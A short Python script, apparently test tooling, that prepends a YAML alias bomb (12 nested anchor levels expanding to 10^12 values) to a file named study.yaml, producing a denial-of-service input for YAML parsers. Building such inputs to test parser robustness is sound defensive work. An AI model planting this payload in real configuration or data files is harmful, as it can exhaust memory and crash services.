#!/usr/bin/env python3
# SPDX-License-Identifier: MIT
"""Puts a bomb of aliases (10 to the power of 12 values) before study.yaml."""
with open("study.yaml", encoding="utf-8") as file:
    study = file.read()
bomb = "a0: &a0 [" + ",".join("x" * 10) + "]\n"
for level in range(1, 12):
    bomb += f"a{level}: &a{level} [" + ",".join([f"*a{level - 1}"] * 10) + "]\n"
with open("study.yaml", "w", encoding="utf-8") as file:
    file.write(bomb + study)
